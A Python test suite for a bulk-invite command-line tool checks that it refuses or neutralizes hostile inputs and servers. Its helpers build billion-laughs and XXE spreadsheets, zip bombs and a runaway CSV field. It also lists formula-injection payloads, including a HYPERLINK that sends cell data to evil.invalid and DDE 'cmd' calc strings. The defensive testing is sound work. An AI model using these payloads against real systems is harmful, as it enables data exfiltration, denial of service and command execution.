"""Hostile inputs and servers: refused or neutralized, in bounded memory, nothing misdirected.

File-level refusals run the real CLI in a fresh process: exit code 2, one line on stderr, no
traceback, and the process's peak memory stays far below what the attack would need.
"""

from __future__ import annotations

import re
import struct
import zipfile
from pathlib import Path

import pytest
import python_calamine as cal
from openpyxl import load_workbook

from bulk_invite.errors import InputFileError
from bulk_invite.load import open_table
from bulk_invite.readers import sniff
from bulk_invite.sandbox import Sandbox, SandboxConfig, read_invite_log

from .security_support import KEY, PHI, files_containing, run_cli, write_xlsx

#: Peak memory (KiB) a refused hostile file may cost the whole process (it idles at ~40 MiB).
MEMORY_CEILING_KIB = 150 * 1024

_SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_HEADER = list(PHI)


def _base_xlsx(tmp_path: Path) -> Path:
    return write_xlsx(tmp_path / "base.xlsx", [_HEADER, list(PHI.values())])


def _with_parts(tmp_path: Path, name: str, parts: dict[str, bytes]) -> Path:
    base = _base_xlsx(tmp_path)
    target = tmp_path / name
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename not in parts:
                zout.writestr(info.filename, zin.read(info.filename))
        for part, data in parts.items():
            zout.writestr(part, data)
    return target


def _inline_sheet(cells: list[str], prolog: str = "") -> bytes:
    row = "".join(f'<c t="inlineStr"><is><t>{c}</t></is></c>' for c in cells)
    header = "".join(f'<c t="inlineStr"><is><t>{h}</t></is></c>' for h in _HEADER)
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
        f'<worksheet xmlns="{_SHEET_NS}"><sheetData><row r="1">{header}</row>'
        f'<row r="2">{row}</row></sheetData></worksheet>'
    ).encode()


_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)


def _refused(tmp_path: Path, source: Path, *words: str) -> str:
    """Run ``check`` on ``source``; assert a clean one-line refusal in bounded memory."""
    run = run_cli(["check", str(source), "--verbose"], tmp_path)
    assert run.code == 2, run.stderr
    lines = run.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in run.stderr, run.stderr
    for word in words:
        assert word in lines[0]
    assert 0 < run.peak_rss_kib < MEMORY_CEILING_KIB
    assert not list(tmp_path.glob("*.results.xlsx"))
    return lines[0]


def test_billion_laughs_in_shared_strings_is_refused_before_parsing(tmp_path: Path) -> None:
    strings = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        + _LAUGHS
        + f'<sst xmlns="{_SHEET_NS}">'
        + "".join(f"<si><t>{v}</t></si>" for v in [*_HEADER, "&l9;"])
        + "</sst>"
    ).encode()
    source = _with_parts(tmp_path, "laughs.xlsx", {"xl/sharedStrings.xml": strings})
    _refused(tmp_path, source, "laughs.xlsx", "entity declaration", "xl/sharedStrings.xml")


def test_billion_laughs_in_sheet_xml_is_refused_before_parsing(tmp_path: Path) -> None:
    sheet = _inline_sheet(["&l9;", *list(PHI.values())[1:]], prolog=_LAUGHS)
    source = _with_parts(tmp_path, "laughs.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    _refused(tmp_path, source, "entity declaration", "xl/worksheets/sheet1.xml")


def test_doctype_hidden_behind_a_long_prolog_or_utf16_is_still_refused(tmp_path: Path) -> None:
    padded = _inline_sheet(list(PHI.values()), prolog="<!--" + "x" * 40_000 + "-->" + _LAUGHS)
    source = _with_parts(tmp_path, "padded.xlsx", {"xl/worksheets/sheet1.xml": padded})
    with pytest.raises(InputFileError, match="entity declaration"):
        open_table(source)
    wide = (
        _inline_sheet(list(PHI.values()), prolog=_LAUGHS)
        .decode()
        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
    )
    source = _with_parts(tmp_path, "wide.xlsx", {"xl/worksheets/sheet1.xml": wide.encode("utf-16")})
    with pytest.raises(InputFileError, match="entity declaration"):
        open_table(source)


def _xxe_xlsx(tmp_path: Path) -> tuple[Path, str]:
    canary = "XXECANARY-c41b7e"
    secret = tmp_path / "secret.txt"
    secret.write_text(canary)
    prolog = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    sheet = _inline_sheet(["&xxe;", *list(PHI.values())[1:]], prolog=prolog)
    return _with_parts(tmp_path, "xxe.xlsx", {"xl/worksheets/sheet1.xml": sheet}), canary


def test_external_entity_xlsx_is_refused_and_the_local_file_never_surfaces(
    tmp_path: Path,
) -> None:
    source, canary = _xxe_xlsx(tmp_path)
    with Sandbox(SandboxConfig(api_key=KEY)) as sandbox:
        run = run_cli(
            ["send", str(source), "--base-url", sandbox.base_url, "--journal", "j.sqlite", "-v"],
            tmp_path,
        )
        assert sandbox.requests() == []
    assert run.code == 2 and "entity declaration" in run.stderr
    assert canary not in run.stdout + run.stderr
    assert files_containing(tmp_path, canary) == [str(tmp_path / "secret.txt")]


def test_calamine_itself_never_expands_entities(tmp_path: Path) -> None:
    """Defence in depth: past the pre-check, the parser refuses custom entities on its own."""
    xxe, canary = _xxe_xlsx(tmp_path)
    sheet = _inline_sheet(["&l9;", *list(PHI.values())[1:]], prolog=_LAUGHS)
    laughs = _with_parts(tmp_path, "laughs.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    for source in (xxe, laughs):
        try:
            rows = cal.CalamineWorkbook.from_path(str(source)).get_sheet_by_index(0).to_python()
        except cal.CalamineError:
            continue
        text = repr(rows)
        assert canary not in text and "lollol" not in text


def _write_bomb(base: Path, target: Path, megabytes: int) -> Path:
    """``base`` with a sheet of ``megabytes`` MiB of identical rows (about 1 MB compressed)."""
    row = b"<row>" + b'<c t="inlineStr"><is><t>a</t></is></c>' * 10 + b"</row>"
    chunk = row * ((1 << 20) // len(row))
    with (
        zipfile.ZipFile(base) as zin,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout,
    ):
        for info in zin.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                zout.writestr(info.filename, zin.read(info.filename))
        with zout.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(f'<?xml version="1.0"?><worksheet xmlns="{_SHEET_NS}"><sheetData>'.encode())
            for _ in range(megabytes):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return target


def test_zip_bomb_small_file_huge_sheet_is_refused_in_bounded_memory(tmp_path: Path) -> None:
    source = _write_bomb(_base_xlsx(tmp_path), tmp_path / "bomb.xlsx", 300)
    assert source.stat().st_size < 2 << 20
    _refused(tmp_path, source, "zip bomb", "xl/worksheets/sheet1.xml")


def _lie_about_size(path: Path, member: str, size: int) -> None:
    """Rewrite the uncompressed size the zip declares for ``member`` (local and central)."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(member)
        start = zf.start_dir
    assert info.file_size < 0xFFFFFFFF  # no zip64 fields to patch
    struct.pack_into("<I", data, info.header_offset + 22, size)
    pos = start
    while data[pos : pos + 4] == b"PK\x01\x02":
        n, e, c = struct.unpack_from("<HHH", data, pos + 28)
        if data[pos + 46 : pos + 46 + n].decode() == member:
            struct.pack_into("<I", data, pos + 24, size)
        pos += 46 + n + e + c
    path.write_bytes(bytes(data))


def test_zip_bomb_that_lies_about_its_size_is_refused_in_bounded_memory(tmp_path: Path) -> None:
    source = _write_bomb(_base_xlsx(tmp_path), tmp_path / "liar.xlsx", 200)
    _lie_about_size(source, "xl/worksheets/sheet1.xml", 4096)
    _refused(tmp_path, source, "liar.xlsx")


def test_oversized_part_is_not_read_while_detecting_the_format(tmp_path: Path) -> None:
    base = _base_xlsx(tmp_path)
    target = tmp_path / "types.xlsx"
    with (
        zipfile.ZipFile(base) as zin,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout,
    ):
        for info in zin.infolist():
            if info.filename != "[Content_Types].xml":
                zout.writestr(info.filename, zin.read(info.filename))
        with zout.open("[Content_Types].xml", "w", force_zip64=True) as part:
            part.write(zin.read("[Content_Types].xml"))
            for _ in range(300):
                part.write(b" " * (1 << 20))
    _refused(tmp_path, target, "zip bomb", "[Content_Types].xml")


def test_xlsx_with_thousands_of_entries_is_refused(tmp_path: Path) -> None:
    base = _base_xlsx(tmp_path)
    target = tmp_path / "many.xlsx"
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(target, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info.filename))
        for i in range(sniff.MAX_ZIP_ENTRIES + 1):
            zout.writestr(f"xl/media/pad{i}.bin", b"")
    _refused(tmp_path, target, "zip bomb", f"{sniff.MAX_ZIP_ENTRIES:,}")


def test_csv_with_a_runaway_field_is_refused_in_bounded_memory(tmp_path: Path) -> None:
    source = tmp_path / "runaway.csv"
    with source.open("w") as handle:
        handle.write(",".join(_HEADER) + '\n"')
        for _ in range(64):
            handle.write("x" * (1 << 20))
    _refused(tmp_path, source, "runaway.csv")


PAYLOADS = (
    '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
_FORMULA = re.compile(r"^[=+\-@\t\r\n]")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9 ().\-/]*[0-9][0-9 ().\-/]*")


def test_formula_payloads_are_never_sent_as_names_and_are_neutralized_in_results(
    tmp_path: Path,
) -> None:
    rows = [_HEADER]
    for i, payload in enumerate(PAYLOADS):
        rows.append([payload] * len(_HEADER))  # every column
        first = {**PHI, "First Name": payload, "Email": f"first{i}@example.com"}
        last = {**PHI, "Last Name": payload, "Email": f"last{i}@example.com"}
        rows.extend([list(first.values()), list(last.values())])
        carried = {**PHI, "Patient ID": payload, "Email": f"carried{i}@example.com"}
        rows.append(list(carried.values()))
    source = write_xlsx(tmp_path / "formulas.xlsx", rows)
    log = tmp_path / "invites.jsonl"
    with Sandbox(SandboxConfig(api_key=KEY), invite_log=log) as sandbox:
        run = run_cli(
            ["send", str(source), "--base-url", sandbox.base_url, "--journal", "j.sqlite"],
            tmp_path,
        )
    assert run.code == 1, run.stderr

    sent = read_invite_log(log)
    # Only the rows whose payload sat in an unknown column went out, with clean names.
    assert sorted(i["email"] for i in sent) == sorted(
        f"carried{i}@example.com" for i in range(len(PAYLOADS))
    )
    for invite in sent:
        for value in (invite["first_name"], invite["last_name"]):
            assert not _FORMULA.match(value)

    results = tmp_path / "formulas.results.xlsx"
    with zipfile.ZipFile(results) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in zf.read(n) and b"<f " not in zf.read(n) for n in sheets)
    book = load_workbook(results, read_only=True)
    seen_payload_cells = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows(values_only=True):
            for value in row:
                if not isinstance(value, str):
                    continue
                if value.lstrip("'").lstrip("\t\r") in {p.strip() for p in PAYLOADS}:
                    seen_payload_cells += 1
                assert not _FORMULA.match(value) or _PLAIN_NUMBER.fullmatch(value), value
    assert seen_payload_cells >= len(PAYLOADS) * len(_HEADER)


def test_response_claiming_one_gigabyte_is_not_read_and_the_row_is_unknown(
    tmp_path: Path,
) -> None:
    source = write_xlsx(tmp_path / "one.xlsx", [_HEADER, list(PHI.values())])
    with Sandbox(SandboxConfig(api_key=KEY, huge_response=True)) as sandbox:
        run = run_cli(
            [
                "send",
                str(source),
                "--base-url",
                sandbox.base_url,
                "--journal",
                "j.sqlite",
                "--summary-json",
                "-",
            ],
            tmp_path,
        )
        assert [r.fault for r in sandbox.requests() if "invite" in r.path] == ["huge"]
    assert run.code == 4, run.stderr
    assert '"unknown": 1' in run.stdout
    assert 0 < run.peak_rss_kib < MEMORY_CEILING_KIB


@pytest.mark.parametrize("status", [302, 307])
def test_redirect_to_another_server_is_not_followed_and_stops_the_run(
    tmp_path: Path, status: int
) -> None:
    rows = [_HEADER] + [list({**PHI, "Email": f"p{i}@example.com"}.values()) for i in range(3)]
    source = write_xlsx(tmp_path / "list.xlsx", rows)
    with Sandbox(SandboxConfig(api_key=KEY)) as elsewhere:
        target = elsewhere.base_url + "/api/exam_invite"
        config = SandboxConfig(api_key=KEY, redirect_to=target, redirect_status=status)
        with Sandbox(config) as sandbox:
            run = run_cli(
                [
                    "send",
                    str(source),
                    "--base-url",
                    sandbox.base_url,
                    "--journal",
                    "j.sqlite",
                    "--summary-json",
                    "-",
                ],
                tmp_path,
            )
            assert [r.status for r in sandbox.requests()] == [status]
        assert elsewhere.requests() == []
    assert run.code == 3, run.stderr
    assert "redirect" in run.stdout
    assert '"not_sent": 3' in run.stdout
